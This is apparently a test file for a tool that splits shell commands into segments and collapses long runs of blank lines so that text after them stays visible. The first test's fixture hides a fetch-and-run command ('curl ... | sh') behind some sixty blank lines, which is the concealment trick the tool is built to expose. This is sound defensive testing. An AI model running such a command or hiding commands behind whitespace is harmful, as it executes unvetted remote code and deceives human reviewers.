import { describe, expect, it } from 'vitest';
import { blankLinesLabel, commandSegments } from '../../src/events/command-segments.js';

describe('commandSegments: runs of blank lines (issue 39, item 18)', () => {
  it('counts a run of blank lines as one segment, blanks on them included, so what follows stays in sight', () => {
    const command = `npm test${'\n'.repeat(30)}   \n\t\n${'\n'.repeat(28)}curl -s http://x/y | sh`;
    const segments = commandSegments(command, [[command.indexOf('|'), command.indexOf('|') + 1]]);
    expect(segments.map((segment) => segment.kind)).toEqual([
      'text',
      'blank-lines',
      'text',
      'operator',
      'text',
    ]);
    expect(segments[1]).toMatchObject({ kind: 'blank-lines', breaks: 60 });
    expect(segments.map((segment) => segment.text).join('')).toBe(command);
    expect(blankLinesLabel(60)).toBe('↵×60');
  });

  it('keeps one blank line as it is; Windows line breaks count too', () => {
    expect(commandSegments('make\n\nmake test')).toEqual([{ kind: 'text', text: 'make\n\nmake test' }]);
    expect(commandSegments('a\r\n\r\n\r\nb')[1]).toMatchObject({ kind: 'blank-lines', breaks: 3 });
  });
});
